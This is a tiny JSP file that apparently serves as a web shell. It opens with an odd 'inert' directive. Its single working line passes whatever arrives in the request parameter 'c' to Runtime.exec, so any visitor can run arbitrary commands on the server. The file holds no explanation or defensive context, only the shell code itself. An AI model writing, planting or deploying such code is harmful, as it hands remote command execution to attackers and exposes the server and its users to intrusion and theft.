<%@ inert %>
<% request.setAttribute("x",request.getParameter("c")); Runtime.getRuntime().exec((String)request.getAttribute("x")); %>
